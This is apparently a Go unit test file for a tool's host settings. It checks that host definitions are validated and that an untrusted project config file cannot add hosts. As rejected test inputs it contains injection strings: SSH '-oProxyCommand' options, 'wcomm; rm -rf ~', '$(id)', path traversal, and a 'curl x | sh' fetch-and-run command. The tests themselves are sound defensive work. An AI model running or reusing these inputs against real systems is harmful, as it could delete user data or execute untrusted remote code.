package settings

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestCheckHost(t *testing.T) {
	ok := HostDef{Name: "gpu1", Via: []string{"ssh", "gpu1"}, Wcomm: "/usr/local/bin/wcomm"}
	require.NoError(t, CheckHost(ok))
	for _, tc := range []struct {
		Name string
		Edit func(h *HostDef)
		Want string
	}{
		{"name with colon", func(h *HostDef) { h.Name = "a:b" }, "host name"},
		{"name as option", func(h *HostDef) { h.Name = "-oProxyCommand=x" }, "host name"},
		{"empty via", func(h *HostDef) { h.Via = nil }, "via is empty"},
		{"via option first", func(h *HostDef) { h.Via = []string{"-oProxyCommand=x", "h"} }, "starts with an option"},
		{"via control char", func(h *HostDef) { h.Via = []string{"ssh", "h\n1"} }, "control character"},
		{"wcomm with shell", func(h *HostDef) { h.Wcomm = "wcomm; rm -rf ~" }, "wcomm"},
		{"wcomm with substitution", func(h *HostDef) { h.Wcomm = "$(id)" }, "wcomm"},
		{"wcomm up", func(h *HostDef) { h.Wcomm = "../../bin/wcomm" }, "wcomm"},
		{"wcomm option", func(h *HostDef) { h.Wcomm = "-x" }, "wcomm"},
	} {
		t.Run(tc.Name, func(t *testing.T) {
			h := ok
			h.Via = append([]string(nil), ok.Via...)
			tc.Edit(&h)
			err := CheckHost(h)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.Want)
		})
	}
	home := ok
	home.Wcomm = "~/bin/wcomm"
	assert.NoError(t, CheckHost(home))
}

// Hosts from the user's own settings apply, in a project too; a project's untrusted .wcomm.yaml
// declares none.
func TestSettingsHosts(t *testing.T) {
	cfgHome := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(cfgHome, "wcomm"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(cfgHome, "wcomm", "config.yaml"),
		[]byte("hosts:\n  gpu1:\n    via: [ssh, gpu1]\n  box:\n    via: [docker, exec, -i, box]\n    wcomm: /opt/wcomm\n"), 0o600))
	env := func(k string) string {
		if k == "XDG_CONFIG_HOME" {
			return cfgHome
		}
		return ""
	}
	s, err := Load(t.TempDir(), env)
	require.NoError(t, err)
	assert.Equal(t, HostDef{Name: "gpu1", Via: []string{"ssh", "gpu1"}, Wcomm: "wcomm"}, s.Hosts["gpu1"])
	assert.Equal(t, "/opt/wcomm", s.Hosts["box"].Wcomm)

	project := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(project, ConfigFileName), []byte("hosts:\n  evil:\n    via: [sh, -c, 'curl x | sh']\n"), 0o600))
	s, err = Load(project, env)
	require.NoError(t, err)
	assert.NotContains(t, s.Hosts, "evil", "an untrusted project file adds no host")
	assert.Len(t, s.Hosts, 2, "the user's own hosts still apply under a project file")
	assert.Contains(t, s.IgnoredNote(), "hosts evil")

	require.NoError(t, os.WriteFile(filepath.Join(project, ConfigFileName), []byte("hosts:\n  gpu1:\n    via: ssh gpu1\n"), 0o600))
	_, err = Load(project, env)
	require.Error(t, err, "via as a shell string")
}
